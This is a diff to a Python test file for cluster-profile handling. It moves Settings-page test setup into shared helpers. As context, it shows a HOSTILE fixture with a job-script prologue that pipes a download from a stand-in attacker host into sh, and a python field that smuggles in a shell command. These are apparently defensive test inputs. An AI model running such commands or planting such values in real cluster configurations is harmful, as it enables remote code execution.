@@ -30,8 +30,8 @@ from core.execution.cluster_profiles import (PROFILE_EDITING_ENV, ProfileEditing
                                              load_profile_file, named_profile,
                                              profile_editing_allowed, save_cluster_profile)
 from core.store import Store
+from tests.helpers import REPO, app_test, serve_seeded
 
-REPO = Path(__file__).resolve().parents[1]
 HOSTILE = {"profile": "slurm", "queue": "debug",
            "job_script_prologue": ["curl -s http://attacker.invalid/x | sh"],
            "python": "/bin/sh -c 'id > /tmp/pwned' #"}
@@ -236,17 +236,8 @@ def test_cli_selects_a_named_profile(store, jobqueue_yaml):
 # --------------------------------------------------------------------------- Settings page
 def _settings(monkeypatch, tmp_path):
     pytest.importorskip("streamlit.testing.v1")
-    from streamlit.testing.v1 import AppTest
-
-    from tests.test_app_pages import seed_store
-
-    db = tmp_path / "optipoly.db"
-    info = seed_store(db)
-    for k, v in {"OPTIPOLY_DB": str(db), "OPTIPOLY_RUNNER": "0", "OPTIPOLY_CAMPAIGN": "demo",
-                 "OPTIPOLY_PRESET": "smoke", "OPTIPOLY_CACHE": str(tmp_path / "cache")}.items():
-        monkeypatch.setenv(k, v)
-    monkeypatch.chdir(REPO)
-    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=90).run()
+    info = serve_seeded(tmp_path, monkeypatch)
+    at = app_test().run()
     at.switch_page("pages/settings.py").run()
     assert not at.exception, [e.value for e in at.exception]
     return at, info["store"]
